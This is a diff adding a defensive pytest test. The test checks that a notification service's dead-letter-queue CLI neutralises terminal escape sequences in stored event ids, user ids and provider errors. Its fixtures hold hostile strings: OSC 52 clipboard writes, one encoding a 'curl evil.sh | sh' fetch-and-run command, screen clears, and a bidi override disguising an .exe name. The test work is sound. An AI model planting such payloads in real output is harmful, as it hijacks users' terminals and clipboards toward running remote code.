@@ -107,3 +107,50 @@ async def test_dlq_redrive_requeues_the_filtered_subset_with_a_progress_bar(
     after = await statuses(engine, matching)
     assert "dead/5" not in after and sum(after.values()) == 1200
     assert await statuses(engine, other) == {"dead/5": 3}
+
+
+# A tenant's event id and user id (the API takes any characters in them) and a provider's answer,
+# each carrying what a terminal acts on: an OSC 52 clipboard write (7-bit and C1), a screen clear,
+# a bidi override that would reorder the rest of the line.
+HOSTILE_EVENT = "order-1\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x9d52;c;eA==\x9c\u202e"
+HOSTILE_USER = "u-\u202egnp.exe\x1b[2J"
+HOSTILE_ANSWER = "throttled\x1b[2J\x1b]52;c;eA==\x07\u202eok"
+TERMINAL_CONTROLS = ("\x1b", "\x07", "\x9c", "\x9d", "\u202e")
+
+
+async def test_dlq_list_never_prints_what_a_terminal_would_act_on(
+    settings: Settings, tenant: TenantInfo
+) -> None:
+    conn = await asyncpg.connect(asyncpg_dsn(settings.database_url))
+    try:
+        user_id = await conn.fetchval(
+            "INSERT INTO users (id, tenant_id, external_id, phone) VALUES ($1, $2, $3, '+14155550100')"
+            " RETURNING id",
+            uuid7(),
+            tenant.id,
+            HOSTILE_USER,
+        )
+        await conn.execute(
+            "INSERT INTO notifications (id, tenant_id, event_id, request_hash, user_id, channel, category,"
+            " priority, data, status, attempts, provider, error_code, error_message, history)"
+            " VALUES ($1, $2, $3, 'x', $4, 'sms', 'orders', 'normal', '{}'::jsonb, 'dead', 5, 'twilio',"
+            " '20429', $5, '[]'::jsonb)",
+            uuid7(),
+            tenant.id,
+            HOSTILE_EVENT,
+            user_id,
+            HOSTILE_ANSWER,
+        )
+    finally:
+        await conn.close()
+
+    text = await clarion(settings, "dlq", "list", "sms", "--tenant", tenant.id)
+    lines = await clarion(settings, "dlq", "list", "sms", "--tenant", tenant.id, "--json")
+
+    assert text.returncode == 0 and lines.returncode == 0, text.stderr + lines.stderr
+    for out in (text.stdout, lines.stdout):
+        assert not [c for c in TERMINAL_CONTROLS if c in out], repr(out)
+    assert "20429: throttled\\x1b[2J\\x1b]52;c;eA==\\x07\\u202eok" in text.stdout  # shown, inert
+    item = json.loads(lines.stdout)
+    assert (item["event_id"], item["user_id"]) == (HOSTILE_EVENT, HOSTILE_USER)  # the same values
+    assert item["error"]["message"] == HOSTILE_ANSWER
